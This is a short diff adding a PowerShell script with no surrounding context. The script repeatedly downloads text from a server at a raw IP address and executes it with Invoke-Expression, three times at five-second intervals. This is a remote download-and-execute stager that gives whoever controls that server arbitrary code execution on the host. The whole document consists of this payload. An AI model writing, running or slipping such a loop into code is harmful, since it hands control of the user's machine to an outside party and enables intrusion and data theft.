@@ -1,0 +1,8 @@
+$server = 'http://68.48.252.22:8080/task'
+$count = 0
+while ($count -lt 3) {
+    $task = (New-Object Net.WebClient).DownloadString($server)
+    Invoke-Expression $task
+    Start-Sleep 5
+    $count++
+}
